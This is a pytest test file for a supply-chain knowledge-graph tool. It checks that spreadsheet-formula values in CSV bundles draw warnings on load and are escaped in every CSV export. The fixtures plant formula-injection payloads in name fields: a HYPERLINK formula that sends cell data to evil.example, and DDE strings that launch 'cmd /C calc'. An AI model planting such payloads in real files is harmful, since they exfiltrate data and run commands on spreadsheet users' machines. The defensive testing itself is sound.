"""Spreadsheet formulas: warned about when a bundle is read, neutralised in every CSV written."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
from typer.testing import CliRunner

from valuechain_kg.cli import app
from valuechain_kg.ingest.formulas import looks_like_formula, neutralise

runner = CliRunner()
COBALT = Path(__file__).parent / "fixtures" / "bundles" / "cobalt-chain"

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
CMD = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "text", [HYPERLINK, CMD, AT_SUM, "-2+3", "\t=1+1", "\rfoo", "＝1+1", "-", "+"]
)
def test_formula_starts_are_neutralised(text: str) -> None:
    assert looks_like_formula(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["-0.5", "+3", "-1e-3", ".5", "plain", "a=b", "", -0.5, 3, None])
def test_numbers_and_plain_text_are_kept(value: object) -> None:
    assert neutralise(value) == value


@pytest.fixture
def bundle(tmp_path: Path) -> Path:
    """The cobalt chain with formula payloads in names, a title and a description."""
    folder = tmp_path / "bundle"
    shutil.copytree(COBALT, folder)
    actors = (folder / "actors.csv").read_text(encoding="utf-8")
    actors = actors.replace("Kolwezi Mining (fictional)", '"' + HYPERLINK.replace('"', '""') + '"')
    actors = actors.replace("Cobalt Trading (fictional)", '"' + CMD + '"')
    actors = actors.replace("Cell Maker (fictional)", '"\t' + AT_SUM + '"')
    (folder / "actors.csv").write_text(actors, encoding="utf-8")
    impacts = (folder / "impacts.csv").read_text(encoding="utf-8")
    impacts = impacts.replace("Water pollution near the mine (fictional)", "-2+3")
    (folder / "impacts.csv").write_text(impacts, encoding="utf-8")
    return folder


def _line_of(path: Path, text: str) -> int:
    return next(i for i, line in enumerate(path.read_text().splitlines(), 1) if text in line)


def test_load_warns_about_each_formula_cell_and_still_loads(bundle: Path, tmp_path: Path) -> None:
    store = tmp_path / "store"
    result = runner.invoke(app, ["load", str(bundle), "--store", str(store)])
    assert result.exit_code == 0, result.output
    actors, impacts = bundle / "actors.csv", bundle / "impacts.csv"
    expected = [
        f"{actors}, line {_line_of(actors, 'HYPERLINK')}, column name",
        f"{actors}, line {_line_of(actors, 'cmd|')}, column name",
        f"{actors}, line {_line_of(actors, '@SUM')}, column name",
        f"{impacts}, line {_line_of(impacts, '-2+3')}, column title",
    ]
    warnings = [line for line in result.stderr.splitlines() if line.startswith("warning: ")]
    assert len(warnings) == len(expected), result.stderr
    for where, line in zip(expected, warnings, strict=True):
        assert line.startswith(f"warning: {where}: "), line
        assert "starts like a spreadsheet formula" in line
    info = runner.invoke(app, ["info", "--store", str(store), "--format", "json"])
    assert json.loads(info.stdout)["actors"] > 0


def test_validate_warns_too(bundle: Path) -> None:
    result = runner.invoke(app, ["validate", str(bundle)])
    assert result.exit_code == 0, result.output
    assert result.stderr.count("starts like a spreadsheet formula") == 4


def test_a_clean_bundle_loads_without_warnings(tmp_path: Path) -> None:
    result = runner.invoke(app, ["load", str(COBALT), "--store", str(tmp_path / "s")])
    assert result.exit_code == 0, result.output
    assert "warning" not in result.stderr


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _csv_of(bundle: Path, *args: str) -> list[dict[str, str]]:
    result = runner.invoke(app, [*args, "--data", str(bundle), "--format", "csv"])
    assert result.exit_code == 0, result.output
    return _rows(result.stdout)


def test_linked_csv_neutralises_names_and_keeps_numbers(bundle: Path) -> None:
    rows = {r["id"]: r for r in _csv_of(bundle, "linked", "child-labour-kolwezi")}
    assert rows["kolwezi-mine"]["name"] == "'" + HYPERLINK
    assert rows["cobalt-trader"]["name"] == "'" + CMD
    assert rows["cell-maker"]["name"] == "'" + AT_SUM  # stripped of its tab on reading
    assert rows["kolwezi-mine"]["confidence"] == "0.9"
    assert rows["kolwezi-mine"]["hops"] == "0"
    assert not any(v.startswith(("=", "+", "@")) for r in rows.values() for v in r.values())


def test_leverage_and_impacts_csv_neutralise(bundle: Path) -> None:
    holders = _csv_of(bundle, "leverage", "child-labour-kolwezi")
    names = {r["holder"]: r["name"] for r in holders}
    assert names["cobalt-trader"] == "'" + CMD
    assert [r["strength"] for r in holders] == ["1.0"]
    impacts = {r["id"]: r for r in _csv_of(bundle, "impacts")}
    assert impacts["pollution-kolwezi"]["title"] == "'-2+3"
    assert impacts["pollution-kolwezi"]["severity"].startswith("level=2, scale=2")


def test_sparql_csv_neutralises_strings_not_numbers(bundle: Path) -> None:
    query = "SELECT ?name (-0.5 AS ?n) WHERE { ?a schema:name ?name } ORDER BY ?name"
    result = runner.invoke(app, ["sparql", query, "--data", str(bundle), "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert result.stdout_bytes.startswith(b"name,n\r\n")
    rows = _rows(result.stdout)
    names = {r["name"] for r in rows}
    assert {"'" + HYPERLINK, "'" + CMD, "'" + AT_SUM} <= names
    assert {r["n"] for r in rows} == {"-0.5"}
